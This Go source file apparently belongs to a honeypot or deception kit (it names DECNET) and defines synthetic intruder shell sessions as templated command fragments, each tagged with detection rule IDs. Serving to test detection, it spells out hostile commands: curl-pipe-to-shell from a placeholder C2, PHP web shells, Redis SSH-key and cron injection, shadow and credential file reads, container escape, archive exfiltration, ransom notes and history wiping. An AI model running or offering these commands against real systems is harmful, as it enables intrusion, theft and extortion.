package sample

// step is one line that an intruder types and the rules that match it. The kit replaces words in braces.
type step struct {
	text  string
	rules []string
}

// sign is a rule that matches a whole session because of a fragment, with the single evidence key that DECNET stores.
type sign struct {
	rule  string
	key   string
	value string
}

// fragment is a sequence of lines in a shell session that belong together.
type fragment struct {
	steps []step
	signs []sign
}

func hits(rules ...string) []string { return rules }

// fragments lists the parts that the acts in themes.go are made of.
var fragments = map[string]fragment{
	"landing": {steps: []step{
		{"w", hits("R0019")},
		{"id", hits("R0019")},
		{"uname -a", hits("R0018")},
		{"whoami", hits("R0019")},
		{"ls -la", nil},
		{"cat /etc/issue", nil},
		{"last -n 20", hits("R0019")},
	}},
	"system": {steps: []step{
		{"cat /etc/os-release", hits("R0018")},
		{"lscpu", hits("R0018")},
		{"cat /proc/cpuinfo | grep -c ^processor", hits("R0018")},
		{"free -m", nil},
		{"df -h", nil},
		{"ps aux --sort=-%cpu | head -15", nil},
		{"dmidecode -s system-product-name", hits("R0018")},
	}},
	"accounts": {steps: []step{
		{"cat /etc/passwd", hits("R0013")},
		{"cat /etc/shadow", hits("R0014")},
		{"getent group sudo wheel docker", hits("R0019")},
		{"sudo -l", hits("R0029")},
		{"find / -perm -4000 -type f 2>/dev/null", hits("R0015")},
		{"sudo -u root /bin/bash -c id", hits("R0029", "R0010")},
	}},
	"secrets": {
		steps: []step{
			{"find / -name id_rsa 2>/dev/null", hits("R0016")},
			{"cat ~/.aws/credentials", nil},
			{"cat /var/www/html/.env", nil},
			{"find / -name 'wp-config.php' 2>/dev/null", hits("R0016")},
			{"grep -rniE 'passw(or)?d' /etc/*.conf | head", nil},
			{"cat ~/.bash_history", nil},
		},
		signs: []sign{{"R0036", "matched_path", "/root/.aws/credentials"}},
	},
	"network": {steps: []step{
		{"ip addr", hits("R0020")},
		{"ip route", hits("R0020")},
		{"cat /etc/resolv.conf", hits("R0020")},
		{"netstat -tulpn", hits("R0021")},
		{"ss -antp", hits("R0021")},
		{"cat /etc/hosts", nil},
	}},
	"scan": {steps: []step{
		{"nmap -sS -Pn -p 22,80,443,445,3389 {net}", hits("R0017")},
		{"masscan {net} -p0-65535 --rate 10000 -oL /tmp/.{tag}", hits("R0017")},
		{"for i in $(seq 1 254); do nc -zvw1 {prefix}.$i 22; done", hits("R0017")},
		{"ssh -o StrictHostKeyChecking=no {user}@{host}", nil},
	}},
	"directory": {
		steps: []step{
			{"ldapsearch -x -H ldap://{host} -b dc=corp,dc=example,dc=com '(objectClass=user)'", hits("R0022")},
			{"ldapsearch -x -H ldap://{host} -b dc=corp,dc=example,dc=com '(objectClass=trustedDomain)'", hits("R0022")},
			{"smbclient -L //{host} -N", hits("R0023")},
			{"python3 Responder.py -I eth0 -wrf", hits("R0011")},
		},
		signs: []sign{{"R0039", "matched_signal", "llmnr_answer_for_foreign_name"}},
	},
	"download": {steps: []step{
		{"cd /tmp || cd /var/run || cd /dev/shm", nil},
		{"wget -q http://{c2}/{file} -O /tmp/.{file}", hits("R0012")},
		{"curl -fsSL http://{c2}/{file}.sh | sh", hits("R0012", "R0010")},
		{"chmod +x /tmp/.{file}", nil},
		{"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", hits("R0011", "R0010")},
		{"bash -c /tmp/.{file}", hits("R0010")},
		{"perl -e 'use Socket;$i=\"{c2host}\";$p=4444;'", hits("R0011")},
	}},
	"busybox": {steps: []step{
		{"enable", nil},
		{"system", nil},
		{"sh", hits("R0010")},
		{"/bin/busybox {tag}", nil},
		{"cat /proc/mounts; /bin/busybox {tag}", nil},
		{"/bin/busybox wget http://{c2}/bins/{file}.mips -O .{file}", hits("R0012")},
		{"/bin/busybox tftp -g -r {file}.arm7 {c2host}", hits("R0012")},
		{"chmod 777 .{file}; sh -c './.{file} telnet'", hits("R0010")},
		{"cat /proc/cpuinfo", hits("R0018")},
	}},
	"miner": {steps: []step{
		{"pkill -9 xmrig; pkill -9 kdevtmpfsi; pkill -9 kinsing", nil},
		{"wget -qO- http://{c2}/{file}.tar.gz | tar xz -C /tmp", hits("R0012")},
		{"sysctl -w vm.nr_hugepages=1168", nil},
		{"nohup bash -c '/tmp/{file} -o stratum+tcp://{pool}:3333 -u {wallet} -p x -B' >/dev/null 2>&1 &", hits("R0010")},
		{"ps aux | grep {file}", nil},
	}},
	"persistence": {steps: []step{
		{"(crontab -l; echo '*/7 * * * * /tmp/.{file} >/dev/null 2>&1') | crontab -", hits("R0025")},
		{"echo '*/15 * * * * root curl -fsSL http://{c2}/{file}.sh | sh' >> /etc/cron.d/{tag}", hits("R0025", "R0012", "R0010")},
		{"useradd -m -s /bin/bash -G sudo {user}", hits("R0024")},
		{"echo '{user}:{password}' | chpasswd", nil},
		{"mkdir -p ~/.ssh && echo '{key}' >> ~/.ssh/authorized_keys", nil},
		{"chattr +i ~/.ssh/authorized_keys", nil},
	}},
	"webroot": {steps: []step{
		{"ls -la /var/www/html", nil},
		{"echo '<?php @eval($_POST[\"{tag}\"]);?>' > /var/www/html/uploads/{file}.php", hits("R0027")},
		{"curl -s 'http://127.0.0.1/uploads/{file}.php?{tag}=id'", hits("R0012")},
		{"whoami", hits("R0019")},
		{"uname -a", hits("R0018")},
	}},
	"redis": {
		steps: []step{
			{"INFO server", nil},
			{"CONFIG GET dir", nil},
			{"SET {tag} \"\\n\\n{key}\\n\\n\"", hits("R0026")},
			{"CONFIG SET dir /root/.ssh", hits("R0026")},
			{"CONFIG SET dbfilename authorized_keys", hits("R0026")},
			{"SAVE", nil},
			{"SET {tag}2 \"\\n*/3 * * * * curl -fsSL http://{c2}/{file}.sh | sh\\n\"", hits("R0025", "R0012", "R0010")},
			{"CONFIG SET dir /var/spool/cron", hits("R0025")},
			{"FLUSHALL", nil},
			{"SLAVEOF {c2host} 6379", nil},
		},
		signs: []sign{{"R0032", "matched_op", "FLUSHALL"}},
	},
	"sql": {
		steps: []step{
			{"SELECT version()", nil},
			{"SHOW DATABASES", nil},
			{"SELECT user, host, authentication_string FROM mysql.user", nil},
			{"SELECT * FROM {db}.customers", nil},
			{"SELECT LOAD_FILE('/etc/passwd')", hits("R0013")},
			{"SELECT LOAD_FILE('/etc/shadow')", hits("R0014")},
			{"SELECT '<?php system($_GET[0]); ?>' INTO OUTFILE '/var/www/html/{file}.php'", hits("R0027")},
			{"SELECT sys_exec('wget http://{c2}/{file} -O /tmp/{file}')", hits("R0012")},
			{"SELECT sys_exec('bash -c /tmp/{file}')", hits("R0010")},
		},
		signs: []sign{{"R0035", "matched_op", "SELECT * FROM"}},
	},
	"extortion": {
		steps: []step{
			{"DROP DATABASE {db}", nil},
			{"CREATE TABLE README_TO_RECOVER (note TEXT)", nil},
			{"INSERT INTO README_TO_RECOVER VALUES ('Your data is safe with us. Send 0.0150 BTC to {coin} within 48 hours.')", nil},
		},
		signs: []sign{{"R0032", "matched_op", "DROP DATABASE"}, {"R0033", "btc_address", "{coin}"}},
	},
	"encryption": {
		steps: []step{
			{"systemctl stop mysql postgresql docker", nil},
			{"find / -name '*.bak' -exec rm -f {} +", hits("R0016")},
			{"bash -c '/tmp/.{file} --encrypt /home /srv /var/www'", hits("R0010")},
			{"echo 'YOUR FILES ARE ENCRYPTED, pay {coin}' | tee /root/RESTORE_FILES.txt", nil},
		},
		signs: []sign{{"R0032", "matched_op", "rm -f"}, {"R0033", "matched_keywords", "files are encrypted"}},
	},
	"containers": {
		steps: []step{
			{"docker ps -a", nil},
			{"curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json", hits("R0012")},
			{"cat /var/run/secrets/kubernetes.io/serviceaccount/token", nil},
			{"kubectl get pods -A -o wide", nil},
			{"docker run -v /:/mnt --rm -i alpine chroot /mnt sh -c id", hits("R0010")},
			{"cat /mnt/etc/shadow", hits("R0014")},
		},
		signs: []sign{
			{"R0037", "matched_path", "/var/run/secrets/kubernetes.io/serviceaccount/token"},
			{"R0038", "matched_signal", "host_root_mounted"},
		},
	},
	"router": {
		steps: []step{
			{"show version", hits("R0018")},
			{"show running-config", nil},
			{"show ip interface brief", hits("R0020")},
			{"copy running-config tftp://{c2host}/{tag}.cfg", hits("R0012")},
		},
		signs: []sign{{"R0040", "matched_path", "running-config"}},
	},
	"exfiltration": {
		steps: []step{
			{"tar czf /tmp/{tag}.tgz /home /var/www /etc", nil},
			{"split -b 20M /tmp/{tag}.tgz /tmp/{tag}.", nil},
			{"curl -s -F 'file=@/tmp/{tag}.tgz' https://{drop}/upload", hits("R0012")},
		},
		signs: []sign{{"R0034", "matched_signal", "archive_posted"}},
	},
	"beacon": {signs: []sign{{rule: "R0031"}}},
	"cleanup": {steps: []step{
		{"rm -f /tmp/.{file} /tmp/{tag}*", nil},
		{"history -c", hits("R0028")},
		{"unset HISTFILE; export HISTSIZE=0", hits("R0028")},
		{"cat /dev/null > ~/.bash_history && history -c", hits("R0028")},
		{"exit", nil},
	}},
}
